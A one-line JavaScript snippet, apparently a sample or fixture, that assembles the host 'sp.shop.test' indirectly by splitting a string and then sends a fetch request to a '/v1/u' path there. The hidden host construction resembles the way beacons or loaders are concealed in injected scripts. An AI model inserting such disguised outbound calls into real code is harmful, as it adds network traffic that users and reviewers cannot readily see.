(()=>{var t="a|b|sp.shop.test".split("|");fetch("https://"+t.pop()+"/v1/u");})();
